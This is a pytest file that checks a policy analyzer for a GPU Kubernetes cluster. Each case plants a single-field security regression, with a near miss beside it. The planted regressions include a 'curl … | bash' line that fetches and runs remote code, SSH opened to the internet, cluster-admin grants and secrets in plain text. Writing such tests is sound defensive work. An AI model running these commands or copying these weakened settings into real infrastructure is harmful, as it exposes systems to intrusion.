"""Every rule, through the real analyzer (tests/support/analyzer.py), on the recorded prod
stack: the known-good fixture passes, one single-field mutation per rule violates it, and one
near miss (a change that looks suspicious but is fine) does not."""

from __future__ import annotations

import copy
import json
from collections.abc import Callable
from dataclasses import replace
from typing import Any

import pytest
from support.analyzer import Analyzer, Res, gpu_guardrails, prod_policy_config

TRAIN = ("kubernetes:kubeflow.org/v1:PyTorchJob", "")
DEPLOY = ("kubernetes:apps/v1:Deployment", "")
HPA = ("kubernetes:autoscaling/v2:HorizontalPodAutoscaler", "")
INGRESS = ("kubernetes:networking.k8s.io/v1:Ingress", "")
PDB = ("kubernetes:policy/v1:PodDisruptionBudget", "inference")
CKPT_PV = ("kubernetes:core/v1:PersistentVolume", "checkpoints")
CKPT_PVC = ("kubernetes:core/v1:PersistentVolumeClaim", "checkpoints")
DATA_PVC = ("kubernetes:core/v1:PersistentVolumeClaim", "training-data")
DATA_PV = ("kubernetes:core/v1:PersistentVolume", "training-data")
RELEASE_GPU = ("kubernetes:helm.sh/v3:Release", "gpu-operator")
RELEASE_NET = ("kubernetes:helm.sh/v3:Release", "network-operator")
INIT = ("command:remote:Command", "kubeadm-init")
TOKEN = ("command:remote:Command", "gpu-node-00-join-token")
FABRIC = ("gpucluster:fabric:InfinibandFabric", "")
CLUSTER = ("gpucluster:bootstrap:KubeadmCluster", "")
NS = ("kubernetes:core/v1:Namespace", "training")
DENY = ("kubernetes:networking.k8s.io/v1:NetworkPolicy", "training-default-deny-ingress")
POOL = ("kubernetes:metallb.io/v1beta1:IPAddressPool", "")
RELEASE_PROM = ("kubernetes:helm.sh/v3:Release", "prometheus")


def stdin_edit(old: str, new: str, last: bool = False) -> Mutation:
    """Replace the first (or last) `old` in the init script's stdin."""
    def change(p: dict[str, Any]) -> None:
        s = p["stdin"]
        at = s.rindex(old) if last else s.index(old)
        p["stdin"] = s[:at] + new + s[at + len(old):]
    return change
QUEUE = ("kubernetes:scheduling.volcano.sh/v1beta1:Queue", "training")
PREPARE = ("command:remote:Command", "gpu-node-00-prepare")
IDENTITIES = ("command:remote:Command", "mgmt-01-identities")
SM_FILES = ("command:remote:Command", "sm-01-opensm")
API_KEY = ("command:remote:Command", "llama-70b-setup")
RDMA_BINDING = ("kubernetes:admissionregistration.k8s.io/v1:ValidatingAdmissionPolicyBinding",
                "rdma-pods-baseline")
SERVICE = ("kubernetes:core/v1:Service", "inference")
CLIENTS = ("kubernetes:networking.k8s.io/v1:NetworkPolicy", "clients")
RELEASE_INGRESS = ("kubernetes:helm.sh/v3:Release", "ingress-nginx")
VIEWERS = ("kubernetes:rbac.authorization.k8s.io/v1:ClusterRoleBinding", "viewers")
EGRESS = ("kubernetes:networking.k8s.io/v1:NetworkPolicy", "inference-egress-off-management")
DIGEST = "@sha256:" + "0" * 64
FLOOR = "v{}.{}.{}".format(*gpu_guardrails.compat_data.VLLM_FLOOR)

Mutation = Callable[[dict[str, Any]], Any]


def worker(p: dict[str, Any]) -> dict[str, Any]:
    return p["spec"]["pytorchReplicaSpecs"]["Worker"]["template"]


def wc(p: dict[str, Any]) -> dict[str, Any]:
    return worker(p)["spec"]["containers"][0]


def vllm(p: dict[str, Any]) -> dict[str, Any]:
    return p["spec"]["template"]["spec"]["containers"][0]


def set_env(c: dict[str, Any], name: str, value: Any) -> None:
    env = [e for e in c.setdefault("env", []) if e["name"] != name]
    env.append({"name": name, **({"value": value} if isinstance(value, str) else value)})
    c["env"] = env


def gpus(c: dict[str, Any], n: str, requests: bool = True) -> None:
    c["resources"]["limits"]["nvidia.com/gpu"] = n
    if requests:
        c["resources"]["requests"]["nvidia.com/gpu"] = n


def volume(p: dict[str, Any], name: str) -> dict[str, Any]:
    return next(v for v in worker(p)["spec"]["volumes"] if v["name"] == name)


def leaf(p: dict[str, Any], name: str = "leaf-su1-r0-1") -> dict[str, Any]:
    return p["facts"]["switches"][name]


def sm_priorities(*prios: int) -> Mutation:
    def m(p: dict[str, Any]) -> None:
        for s, prio in zip(p["facts"]["subnetManagers"], prios, strict=True):
            s["priority"] = prio
    return m


def pkey(name: str, value: str) -> Mutation:
    def m(p: dict[str, Any]) -> None:
        next(x for x in p["facts"]["partitions"] if x["name"] == name)["pkey"] = value
    return m


def replace_text(field: str, old: str, new: str) -> Mutation:
    def m(p: dict[str, Any]) -> None:
        assert old in p[field], f"{old!r} not in {field}"
        p[field] = p[field].replace(old, new)
    return m


def hca_list(p: dict[str, Any]) -> str:
    return next(e["value"] for e in wc(p)["env"] if e["name"] == "NCCL_IB_HCA")


def assign(target: Callable[[dict[str, Any]], dict[str, Any]], key: str, value: Any) -> Mutation:
    def m(p: dict[str, Any]) -> None:
        if value is DELETE:
            target(p).pop(key, None)
        else:
            target(p)[key] = value
    return m


DELETE = object()
_ = lambda p: p  # noqa: E731  (the props themselves)


def rel(field: str, value: Any) -> Mutation:
    return assign(_, field, value)


def seq(*ms: Mutation) -> Mutation:
    def m(p: dict[str, Any]) -> None:
        for x in ms:
            x(p)
    return m


# (rule, resource selector, violating mutation, near miss). `protect` mutations use a
# string "opts.protect=False" instead of a function.
CASES: dict[str, tuple[tuple[str, str], Any, Any]] = {
    # Classes of security regression (rules_security.py): each with a plant and a near miss.
    "hosts-reachable-only-from-admin-networks": (
        PREPARE, replace_text("stdin", 'HOST_FIREWALL="on"', 'HOST_FIREWALL="off"'),
        replace_text("stdin", 'SSH_CIDRS="10.10.0.0/16"',
                     'SSH_CIDRS="10.10.0.0/16 10.20.0.0/16"')),
    "hosts-reachable-only-from-admin-networks/ssh-from-anywhere": (
        PREPARE, replace_text("stdin", 'SSH_CIDRS="10.10.0.0/16"',
                              'SSH_CIDRS="10.10.0.0/16 0.0.0.0/1"'), None),
    "hosts-reachable-only-from-admin-networks/root-login": (
        PREPARE, replace_text("stdin", "PermitRootLogin no", "PermitRootLogin prohibit-password"),
        replace_text("stdin", "PermitRootLogin no", "PermitRootLogin No")),
    "admission-controls-intact": (
        RDMA_BINDING, lambda p: p["spec"].update(validationActions=["Warn", "Audit"]),
        lambda p: p["spec"].update(validationActions=["Deny", "Audit"])),
    "admission-controls-intact/plugin-off": (
        INIT, replace_text("stdin", "  - name: profiling\n",
                           "  - name: disable-admission-plugins\n    value: NodeRestriction\n"
                           "  - name: profiling\n"),
        replace_text("stdin", "  - name: profiling\n",
                     "  - name: disable-admission-plugins\n    value: DefaultStorageClass\n"
                     "  - name: profiling\n")),
    "admission-controls-intact/tenant-exempt": (
        INIT, replace_text("stdin", "      - tigera-operator\nADMISSION",
                           "      - tigera-operator\n      - training\nADMISSION"),
        replace_text("stdin", "      - tigera-operator\nADMISSION",
                     "      - tigera-operator\n      - metallb-system\nADMISSION")),
    "privileged-namespaces-policed": (
        RDMA_BINDING, lambda p: p["spec"]["matchResources"]["namespaceSelector"][
            "matchExpressions"][0].update(values=["research"]),
        lambda p: p["spec"]["matchResources"]["namespaceSelector"]["matchExpressions"][0][
            "values"].append("research")),
    "identities-least-privilege/everyone": (
        VIEWERS, lambda p: p["subjects"].append({"apiGroup": "rbac.authorization.k8s.io",
                                                 "kind": "Group",
                                                 "name": "system:authenticated"}), None),
    "fabric-partitions-closed/tenant-partition-open": (
        SM_FILES, replace_text("stdin", "defmember=full :\n", "defmember=full :\n    ALL, "),
        None),
    "workloads-off-admin-networks": (
        EGRESS, lambda p: p["spec"]["egress"][0]["to"][0]["ipBlock"].pop("except"),
        lambda p: p["spec"]["egress"][0]["to"][0]["ipBlock"]["except"].append("10.99.0.0/16")),
    "workloads-off-admin-networks/ssh": (
        EGRESS, lambda p: p["spec"]["egress"][1]["ports"][0].update(port=22), None),
    "workloads-out-of-system-namespaces": (
        TRAIN, lambda p: p["metadata"].update(namespace="kube-system"),
        lambda p: p["metadata"].update(namespace="research")),
    "services-only-through-the-ingress": (
        SERVICE, lambda p: p["spec"].update(type="LoadBalancer"),
        lambda p: p["spec"].update(type="ClusterIP", sessionAffinity="ClientIP")),
    "services-only-through-the-ingress/every-namespace": (
        CLIENTS, lambda p: p["spec"]["ingress"][0].update({"from": [{"namespaceSelector": {}}]}),
        lambda p: p["spec"]["ingress"][0]["from"].append({"namespaceSelector": {
            "matchLabels": {"kubernetes.io/metadata.name": "research"}}})),
    "services-only-through-the-ingress/snippets": (
        RELEASE_INGRESS, lambda p: p["values"]["controller"].update(
            allowSnippetAnnotations=True),
        lambda p: p["values"]["controller"].update(allowSnippetAnnotations=False)),
    "identities-least-privilege": (
        VIEWERS, lambda p: p["roleRef"].update(name="cluster-admin"),
        lambda p: p["subjects"].append({"apiGroup": "rbac.authorization.k8s.io",
                                        "kind": "Group", "name": "research:viewers"})),
    "identities-least-privilege/any-signer": (
        IDENTITIES, replace_text("stdin", "  - kubernetes.io/kubelet-serving\n  verbs:\n"
                                 "  - approve", "  - kubernetes.io/*\n  verbs:\n  - approve"),
        replace_text("stdin", "  - get\n  - list\n  - watch", "  - get\n  - list")),
    "fabric-partitions-closed": (
        SM_FILES, replace_text("stdin", "ALL=limited", "ALL=full"),
        replace_text("stdin", "ALL=limited, SELF=full", "ALL=limited")),
    "no-remote-code-from-models": (
        DEPLOY, lambda p: vllm(p)["args"].insert(0, "--trust-remote-code"),
        lambda p: vllm(p)["args"].insert(0, "--disable-log-requests")),
    "no-remote-code-from-models/old-release-from-a-mirror": (
        DEPLOY, assign(vllm, "image", "registry.example.com/mirror/vllm:0.6.3"),
        assign(vllm, "image", f"registry.example.com/mirror/vllm:{FLOOR}{DIGEST}")),
    # A mirror that renames the image: still vLLM (its VLLM_API_KEY), still its release.
    "no-remote-code-from-models/renamed-mirror": (
        DEPLOY, assign(vllm, "image", "registry.example.com/mirror/llm-server:0.6.3"), None),
    "no-remote-code-from-models/digest-alone": (
        DEPLOY, assign(vllm, "image", "registry.example.com/mirror/vllm-openai" + DIGEST),
        None),
    "secrets-not-in-clear": (
        API_KEY, replace_text("stdin", '--from-file="$FIELD=/dev/stdin"',
                              '--from-literal="$FIELD=$KEY"'),
        replace_text("stdin", '--from-file="$FIELD=/dev/stdin"',
                     '--from-file="$FIELD=/dev/fd/0"')),
    "secrets-not-in-clear/chart-literal": (
        RELEASE_PROM, lambda p: p["values"].setdefault("grafana", {}).update(
            enabled=True, adminPassword="Grafana-h100-2024"),
        lambda p: p["values"].setdefault("grafana", {}).update(
            enabled=True, admin={"existingSecret": "grafana-admin"})),
    "kubelet-serving-approver-vouches": (
        IDENTITIES, replace_text("stdin", "if name.value not in allowed:", "if False:"),
        replace_text("stdin", "# RFC 1123 host names", "# RFC 1123 hostnames")),
    "no-latest-image": (TRAIN, assign(wc, "image", "nvcr.io/nvidia/pytorch:latest"),
                        assign(wc, "image", "registry.local:5000/nvidia/pytorch:25.10-py3")),
    "helm-chart-pinned": (RELEASE_GPU, rel("version", "~26.3"), rel("version", "v26.3.2-rc.1")),
    "checkpoint-volume-retained": (
        CKPT_PV, lambda p: p["spec"].update(persistentVolumeReclaimPolicy="Delete"),
        lambda p: p["spec"].update(mountOptions=["flock"])),
    "checkpoint-volume-protected": (CKPT_PVC, "unprotect", None),
    "checkpoint-volume-rwx": (
        CKPT_PVC, lambda p: p["spec"].update(accessModes=["ReadWriteOnce"]),
        lambda p: p["spec"].update(accessModes=["ReadWriteMany", "ReadOnlyMany"])),
    # A read-only checkpoint mount fails the first save; the dataset mount is read-only by design.
    "checkpoint-volume-writable": (
        TRAIN, lambda p: next(m for m in wc(p)["volumeMounts"]
                              if m["name"] == "checkpoints").update(readOnly=True),
        lambda p: next(m for m in wc(p)["volumeMounts"]
                       if m["name"] == "dataset").update(readOnly=True)),
    "ssh-host-key-pinned": (
        INIT, lambda p: p["connection"].pop("hostKey"),
        lambda p: p["connection"].update(hostKey="ecdsa-sha2-nistp256 AAAAE2VjZHNh")),
    "gpu-requests-equal-limits": (
        TRAIN, lambda p: gpus(wc(p), "8") or wc(p)["resources"]["requests"].update(
            {"nvidia.com/gpu": "4"}),
        lambda p: wc(p)["resources"]["requests"].pop("nvidia.com/gpu")),
    "kubeadm-token-ttl-bounded": (TOKEN, replace_text("create", "--ttl 60m", "--ttl 0"),
                                  replace_text("create", "--ttl 60m", "--ttl 2h")),
    "kube-encryption-at-rest": (
        INIT, replace_text("stdin", "encryption-provider-config", "x-provider-config"),
        replace_text("stdin", "encryption-config.yaml", "encryption.yaml")),
    "kube-audit-logging": (INIT, replace_text("stdin", "audit-log-path", "x-log-path"),
                           replace_text("stdin", "audit-log-maxbackup", "x-maxbackup")),
    "kubernetes-provider-explicit": (NS, "default-provider", "renamed-provider"),
    "helm-release-atomic": (RELEASE_GPU, rel("atomic", False), rel("timeout", 1800)),
    "component-versions-compatible": (RELEASE_NET, rel("version", "26.4.0"),
                                      rel("version", "v26.4.1")),
    # The release the cluster publishes: Network Operator 26.4.1 ends at 1.35.
    "component-versions-compatible/kubernetes-release": (
        CLUSTER, lambda p: p["facts"].update(kubernetesVersion="1.36.0"),
        lambda p: p["facts"].update(kubernetesVersion="1.35.9")),
    # The driver container switched back on beside the hosts' driver (prod: driver: host); the
    # near miss is the operator's toolkit, which configures containerd whoever owns the driver.
    "gpu-driver-one-owner": (RELEASE_GPU, lambda p: p["values"]["driver"].update(enabled=True),
                             lambda p: p["values"]["toolkit"].update(enabled=False)),
    # The cluster publishes that the operator owns the driver, whose container is off (prod):
    # no GPU gets a driver. The near miss: the hosts' next release.
    "gpu-driver-one-owner/no-owner": (
        CLUSTER, lambda p: p["facts"].update(gpuDriverOwner="operator", hostGpuDriver=None),
        lambda p: p["facts"].update(hostGpuDriver="580.105.08")),
    "fabric-facts-published": (FABRIC, lambda p: p.pop("facts"),
                               lambda p: p["facts"]["switches"].pop("spine-02")),
    "fabric-non-blocking": (FABRIC, lambda p: leaf(p).update(switchPorts=16),
                            lambda p: leaf(p).update(hostPorts=31, switchPorts=31)),
    "fabric-within-radix": (FABRIC, lambda p: leaf(p).update(highestPort=65),
                            lambda p: leaf(p).update(highestPort=64, hostPorts=32,
                                                     switchPorts=32)),
    # gpu-node-00's rail 4 cabled to rail 0's leaf, and (near miss) another HCA on its leaf.
    "fabric-one-leaf-per-rail-per-su": (
        FABRIC, lambda p: p["facts"]["rails"]["gpu-node-00"]["4"].update(
            switches=["leaf-su1-r0-1"]),
        lambda p: p["facts"]["rails"]["gpu-node-00"]["4"].update(hcas=["mlx5_7"])),
    "subnet-managers-redundant": (FABRIC, sm_priorities(15, 15), sm_priorities(15, 0)),
    "subnet-manager-m-key-protected": (
        FABRIC, lambda p: p["facts"]["subnetManagers"][0].update(mKeyProtection=1),
        lambda p: p["facts"]["subnetManagers"][0].update(mKeyProtection=3)),
    "subnet-manager-keys-secret": (
        FABRIC, lambda p: p["facts"]["subnetManagers"][1].update(keysInFile=["sm_key"]),
        lambda p: p["facts"]["subnetManagers"][1].update(keysInFile=[])),
    "switch-sm-disabled": (FABRIC, lambda p: leaf(p).update(switchSmDisabled=False),
                           lambda p: leaf(p).update(switchSmDisabled=False)
                           or p["facts"].update(subnetManagers=[])),
    "partition-pkeys-in-range": (FABRIC, pkey("compute", "0x7fff"),
                                 pkey("compute", "0x7ffe")),
    "multinode-whole-gpu-nodes": (
        TRAIN, lambda p: gpus(wc(p), "4"),
        lambda p: [p["spec"]["pytorchReplicaSpecs"]["Worker"].update(replicas=1),
                   gpus(wc(p), "4")]),
    "dev-shm-memory-emptydir": (
        TRAIN, lambda p: volume(p, "dshm")["emptyDir"].update(sizeLimit="1Gi"),
        lambda p: volume(p, "dshm")["emptyDir"].update(sizeLimit="16Gi")),
    "rdma-ipc-lock-only": (
        TRAIN, lambda p: wc(p)["securityContext"]["capabilities"]["add"].append("SYS_ADMIN"),
        lambda p: wc(p)["securityContext"]["capabilities"].update(drop=["NET_RAW", "ALL"])),
    "rdma-request-has-network": (
        TRAIN, lambda p: worker(p)["metadata"]["annotations"].pop("k8s.v1.cni.cncf.io/networks"),
        lambda p: worker(p)["metadata"]["annotations"].update(
            {"k8s.v1.cni.cncf.io/networks": '[{"name": "ib-rail0"}]'})),
    "rdma-network-attachment-exists": (
        TRAIN, lambda p: worker(p)["metadata"]["annotations"].update(
            {"k8s.v1.cni.cncf.io/networks": "ib-rail1"}),
        lambda p: worker(p)["metadata"]["annotations"].update(
            {"k8s.v1.cni.cncf.io/networks": "training/ib-rail0"})),
    "nccl-socket-ifname-exists": (TRAIN, lambda p: set_env(wc(p), "NCCL_SOCKET_IFNAME", "ib0"),
                                  lambda p: set_env(wc(p), "NCCL_SOCKET_IFNAME", "net")),
    "nccl-ib-hca-exists": (
        TRAIN, lambda p: set_env(wc(p), "NCCL_IB_HCA", hca_list(p).replace("mlx5_3:", "mlx5_1:")),
        lambda p: set_env(wc(p), "NCCL_IB_HCA", hca_list(p).replace(":1", ""))),
    "nccl-no-debug-knobs": (TRAIN, lambda p: set_env(wc(p), "NCCL_DEBUG", "INFO"),
                            lambda p: set_env(wc(p), "NCCL_DEBUG", "VERSION")),
    "gang-scheduling-min-members": (
        TRAIN, lambda p: p["spec"]["runPolicy"]["schedulingPolicy"].update(minAvailable=2),
        lambda p: p["spec"]["runPolicy"]["schedulingPolicy"].update(minAvailable="4")),
    # The 4-node job needs 32 GPUs at once; the queue capped below that never admits it.
    "gang-fits-queue": (
        QUEUE, lambda p: p["spec"]["capability"].update({"nvidia.com/gpu": "24"}),
        lambda p: p["spec"]["capability"].update({"nvidia.com/gpu": "40"})),
    # Unbounded; 40 container restarts of the 4-node PyTorchJob are 10 restarts of its gang.
    "training-backoff-bounded": (TRAIN, lambda p: p["spec"]["runPolicy"].pop("backoffLimit"),
                                 lambda p: p["spec"]["runPolicy"].update(backoffLimit=40)),
    "inference-probes": (DEPLOY, lambda p: vllm(p).pop("startupProbe"),
                         lambda p: vllm(p).update(startupProbe={"exec": {"command": ["true"]}})),
    "inference-pdb": (PDB, lambda p: p["spec"]["selector"].update(matchLabels={"app": "other"}),
                      lambda p: p["spec"].pop("maxUnavailable") and p["spec"].update(
                          minAvailable=1)),
    "inference-hpa-min-replicas": (HPA, lambda p: p["spec"].update(minReplicas=1),
                                   lambda p: p["spec"].update(minReplicas=2, maxReplicas=2)),
    # Two engines of 8 GPUs in an 8-GPU pod; the sizes given as separate arguments are fine.
    "vllm-engines-fill-the-gpus": (
        DEPLOY, lambda p: vllm(p).update(args=[a.replace("size=4", "size=8")
                                               for a in vllm(p)["args"]]),
        lambda p: vllm(p).update(args=[x for a in vllm(p)["args"] for x in (
            a.split("=") if a.startswith(("--tensor-parallel-size", "--data-parallel-size"))
            else [a])])),
    # A key typed into the spec is no Secret; a key from another Secret is fine.
    "inference-api-key": (
        DEPLOY, lambda p: set_env(vllm(p), "VLLM_API_KEY", "sk-typed-into-the-spec"),
        lambda p: set_env(vllm(p), "VLLM_API_KEY", {"valueFrom": {"secretKeyRef": {
            "name": "rotated-key", "key": "api-key"}}})),
    "ingress-publishes-an-api-prefix": (
        INGRESS, lambda p: p["spec"]["rules"][0]["http"]["paths"][0].update(path="/"),
        lambda p: p["spec"]["rules"][0]["http"]["paths"][0].update(path="/v1/")),
    # An allow rule added to the deny leaves the namespace open; an Egress type added is fine.
    "workload-namespaces-deny-by-default": (
        DENY, lambda p: p["spec"].update(ingress=[{}]),
        lambda p: p["spec"].update(policyTypes=["Ingress", "Egress"])),
    # Secrets logged with their bodies; a catch-all raised to Request after them is fine.
    "audit-policy-no-secret-bodies": (
        INIT, stdin_edit("- level: Metadata\n  resources:", "- level: Request\n  resources:"),
        stdin_edit("- level: Metadata\nAUDIT", "- level: Request\nAUDIT", last=True)),
    # identity first writes in clear; a second key added after the first is fine.
    "encryption-not-identity-first": (
        INIT, stdin_edit("  providers:\n  - secretbox:", "  providers:\n  - identity: {}\n"
                         "  - secretbox:"),
        stdin_edit("  - identity: {}\nENC", "  - aescbc:\n      keys:\n      - name: key0\n"
                   "        secret: ${ENCRYPTION_KEY}\n  - identity: {}\nENC")),
    "kubelet-authenticated": (
        INIT, stdin_edit("readOnlyPort: 0", "readOnlyPort: 10255"),
        stdin_edit("readOnlyPort: 0\n", "")),  # left out: the kubelet's default is 0
    # The flag dropped; another CA file (a separate kubelet CA) is fine.
    "kubelet-serving-verified": (
        INIT, stdin_edit("  - name: kubelet-certificate-authority\n"
                         "    value: /etc/kubernetes/pki/ca.crt\n", ""),
        stdin_edit("value: /etc/kubernetes/pki/ca.crt",
                   "value: /etc/kubernetes/pki/kubelet-ca.crt")),
    "kubelet-serving-verified/bootstrap": (
        INIT, stdin_edit("serverTLSBootstrap: true", "serverTLSBootstrap: false"),
        stdin_edit("serverTLSBootstrap: true",
                   "serverTLSBootstrap: true\nrotateCertificates: true")),
    "control-plane-hardened": (
        INIT, stdin_edit("scheduler:\n  extraArgs:\n  - name: profiling\n    value: 'false'",
                         "scheduler:\n  extraArgs:\n  - name: profiling\n    value: 'true'"),
        stdin_edit("controllerManager:\n  extraArgs:\n",
                   "controllerManager:\n  extraArgs:\n  - name: bind-address\n"
                   "    value: 127.0.0.1\n")),
    "host-scripts-safe": (
        INIT, lambda p: p.update(stdin=p["stdin"] + "curl -fsSL https://get.example/x.sh | bash\n"),
        lambda p: p.update(stdin=p["stdin"] + "curl -fsSL https://pkgs.k8s.io/key | gpg "
                                              "--dearmor -o /etc/apt/keyrings/k.gpg\n")),
    "control-plane-hardened/authorization-mode": (
        INIT, stdin_edit("    value: /etc/kubernetes/pki/ca.crt\n  - name: admission-control",
                         "    value: /etc/kubernetes/pki/ca.crt\n  - name: authorization-mode"
                         "\n    value: RBAC\n  - name: admission-control"),
        stdin_edit("    value: /etc/kubernetes/pki/ca.crt\n  - name: admission-control",
                   "    value: /etc/kubernetes/pki/ca.crt\n  - name: authorization-mode"
                   "\n    value: Node,RBAC\n  - name: admission-control")),
    "host-scripts-safe/world-readable": (
        INIT, lambda p: p.update(stdin=p["stdin"] + "chmod 0644 /etc/kubernetes/admin.conf\n"),
        lambda p: p.update(stdin=p["stdin"] + "chmod 0640 /etc/kubernetes/admin.conf\n"
                                              "chmod 0644 /etc/ssh/sshd_config.d/10-x.conf\n")),
    "host-scripts-safe/token-argv": (
        INIT, lambda p: p.update(stdin=p["stdin"] + "kubeadm join --token abcdef.0123456789abcdef"
                                                    " 10.0.0.1:6443\n"),
        lambda p: p.update(stdin=p["stdin"] + "kubeadm join --config /etc/kubernetes/j.yaml\n")),
    "apiserver-anonymous-limited": (
        INIT, stdin_edit("  - path: /healthz\n", "  - path: /healthz\n  - path: /version\n"),
        stdin_edit("  - path: /healthz\n", "")),
    "workload-containers-unprivileged": (
        TRAIN, lambda p: wc(p)["securityContext"]["capabilities"]["add"].append("SYS_ADMIN"),
        lambda p: wc(p)["securityContext"]["capabilities"]["add"].append("CHOWN")),
    "workload-containers-unprivileged/serving-as-root": (
        DEPLOY, lambda p: vllm(p).setdefault("securityContext", {}).update(
            runAsUser=0, runAsNonRoot=False),
        lambda p: vllm(p).setdefault("securityContext", {}).update(runAsUser=2000)),
    "ingress-redirects-to-tls": (
        INGRESS, lambda p: p["metadata"]["annotations"].update(
            {"nginx.ingress.kubernetes.io/ssl-redirect": "false"}),
        lambda p: p["metadata"]["annotations"].update(
            {"nginx.ingress.kubernetes.io/ssl-redirect": "true"})),
    "grafana-no-default-password": (
        RELEASE_PROM, lambda p: p["values"].update(grafana={"enabled": True}),
        lambda p: p["values"].update(grafana={"enabled": True, "admin": {
            "existingSecret": "grafana-admin"}})),
    "load-balancer-pool-not-auto-assigned": (
        POOL, lambda p: p["spec"].update(autoAssign=True),
        lambda p: p["spec"].update(addresses=["10.12.0.240-10.12.0.245"])),
    "ingress-tls": (INGRESS, lambda p: p["spec"].pop("tls"),
                    lambda p: p["spec"]["tls"][0]["hosts"].append("other.cluster.internal")),
    "privileged-only-operator-namespaces": (
        DEPLOY, lambda p: p["spec"]["template"]["spec"].update(hostNetwork=True),
        lambda p: p["spec"]["template"]["spec"].update(hostNetwork=False, hostPID=False)),
    "secrets-via-secret-key-ref": (
        DEPLOY, lambda p: set_env(vllm(p), "HF_TOKEN", "hf_abcdef"),
        lambda p: set_env(vllm(p), "HF_TOKEN", {"valueFrom": {"secretKeyRef": {
            "name": "hf", "key": "token"}}})),
    "gpu-node-selector-real-label": (
        DEPLOY, lambda p: p["spec"]["template"]["spec"].update(
            nodeSelector={"nvidia.com/gpu.product": "NVIDIA-H100-SXM"}),
        lambda p: p["spec"]["template"]["spec"].pop("nodeSelector")),
    "gpu-taint-tolerated": (
        DEPLOY, lambda p: p["spec"]["template"]["spec"].pop("tolerations"),
        lambda p: p["spec"]["template"]["spec"].update(tolerations=[
            {"key": "nvidia.com/gpu", "operator": "Equal", "value": "present",
             "effect": "NoSchedule"}])),
}


def find(plan: list[Res], selector: tuple[str, str]) -> int:
    type_, part = selector
    hits = [i for i, r in enumerate(plan) if r.type == type_ and part in r.name]
    assert hits, f"no {type_} named *{part}* in the prod plan"
    return hits[0]


def mutated(plan: list[Res], selector: tuple[str, str], change: Any) -> tuple[list[Res], Res]:
    i = find(plan, selector)
    res = plan[i]
    if change == "unprotect":
        new = replace(res, protect=False)
    elif change in ("default-provider", "renamed-provider"):
        name = "default_4_34_0" if change == "default-provider" else "cluster-kubernetes"
        prov = Res("pulumi:providers:kubernetes", name, {},
                   urn=f"urn:pulumi:prod::gpu-cluster::pulumi:providers:kubernetes::{name}")
        new = replace(res, provider=prov)
    else:
        props = json.loads(json.dumps(res.props))
        change(props)
        new = replace(res, props=props)
    out = list(plan)
    out[i] = new
    return out, new


def violations(rule: str, plan: list[Res], res: Res) -> list[str]:
    an = Analyzer(prod_policy_config(), only={rule})
    diags = an.analyze(res) + an.analyze_stack(plan)
    return [d.message for d in diags if d.policy == rule]


def _rule(case: str) -> str:
    """A case is named by its rule, or `<rule>/<what>` for a further mutation of one rule."""
    return case.split("/")[0]


# Rules that judge no resource of the stack, tested on their own.
WITHOUT_CASES = {
    "checks-wait-for-up",  # sums up what the others deferred: test_policy_analyzer.py
}


def test_every_rule_has_cases() -> None:
    assert sorted({_rule(c) for c in CASES}) == sorted(
        p.name for p in gpu_guardrails.POLICIES if p.name not in WITHOUT_CASES)


@pytest.mark.parametrize("rule", sorted(CASES))
def test_known_good_passes(rule: str, prod_plan: list[Res]) -> None:
    selector = CASES[rule][0]
    res = prod_plan[find(prod_plan, selector)]
    assert violations(_rule(rule), prod_plan, res) == []


@pytest.mark.parametrize("rule", sorted(CASES))
def test_mutation_violates(rule: str, prod_plan: list[Res]) -> None:
    selector, bad, _near = CASES[rule]
    plan, res = mutated(copy.copy(prod_plan), selector, bad)
    assert violations(_rule(rule), plan, res), f"{rule}: the mutation went unnoticed"


@pytest.mark.parametrize("rule", sorted(r for r in CASES if CASES[r][2] is not None))
def test_near_miss_passes(rule: str, prod_plan: list[Res]) -> None:
    selector, _bad, near = CASES[rule]
    plan, res = mutated(copy.copy(prod_plan), selector, near)
    assert violations(_rule(rule), plan, res) == []


def test_protect_near_miss(prod_plan: list[Res]) -> None:
    # A claim that is not a checkpoint claim may be unprotected.
    plan, res = mutated(prod_plan, DATA_PVC, "unprotect")
    assert violations("checkpoint-volume-protected", plan, res) == []
    plan, res = mutated(prod_plan, DATA_PV, lambda p: p["spec"].update(
        persistentVolumeReclaimPolicy="Delete"))
    assert violations("checkpoint-volume-retained", plan, res) == []


def _suppressed(p: dict[str, Any], rules: str) -> None:
    p["metadata"].setdefault("annotations", {})["gpucluster.io/policy-suppress"] = rules


def test_a_security_rule_cannot_be_suppressed_by_the_objects_own_annotation(
        prod_plan: list[Res]) -> None:
    """The annotation is written by the stack's code, which the pack's owners do not review:
    a training job turning hostIPC on and, in the same change, suppressing the finding on
    itself is still refused."""
    def change(p: dict[str, Any]) -> None:
        worker(p)["spec"]["hostIPC"] = True
        _suppressed(p, "privileged-only-operator-namespaces: needs shared memory")
    plan, res = mutated(copy.copy(prod_plan), TRAIN, change)
    assert violations("privileged-only-operator-namespaces", plan, res)


def test_a_performance_rule_may_be_suppressed_by_annotation(prod_plan: list[Res]) -> None:
    """nccl-no-debug-knobs is in the pack's allowlist (its own code, reviewed by its owners):
    the NCCL acceptance test's annotation keeps suppressing it."""
    def change(p: dict[str, Any]) -> None:
        set_env(wc(p), "NCCL_DEBUG", "INFO")
        _suppressed(p, "nccl-no-debug-knobs: a profiling run")
    plan, res = mutated(copy.copy(prod_plan), TRAIN, change)
    assert violations("nccl-no-debug-knobs", plan, res) == []


@pytest.mark.parametrize(("expires", "held"), [
    ("2999-12-31", True), ("2000-01-01", False), (None, False), ("soon", False)])
def test_a_config_suppression_needs_a_reason_and_an_expiry_not_yet_past(
        prod_plan: list[Res], expires: str | None, held: bool) -> None:
    plan, res = mutated(copy.copy(prod_plan), TRAIN,
                        lambda p: worker(p)["spec"].update(hostIPC=True))
    entry = {"name": res.name, "reason": "a reviewed exception"} | (
        {"expires": expires} if expires else {})
    an = Analyzer({**prod_policy_config(), "privileged-only-operator-namespaces": {
        "suppress": [entry]}}, only={"privileged-only-operator-namespaces"})
    found = [d for d in an.analyze(res) if d.policy == "privileged-only-operator-namespaces"]
    assert (found == []) is held, found


def test_a_storage_fabric_is_checked_like_the_compute_one(prod_plan: list[Res]) -> None:
    """A storage fabric of its own (fabric.storageFabric) publishes the same facts: its
    switches, subnet managers and partitions fall under the fabric rules too, while the compute
    rails' cabling rule reads the compute fabric alone (a node's storage port is not a rail)."""
    compute = prod_plan[find(prod_plan, FABRIC)]
    props = json.loads(json.dumps(compute.props))
    props["facts"]["switches"] = {f"storage-{n}": s for n, s in props["facts"]["switches"].items()}
    for rails in props["facts"]["rails"].values():  # each node's port 0 on a storage leaf
        rails["0"]["switches"] = ["storage-leaf-su1-r0"]
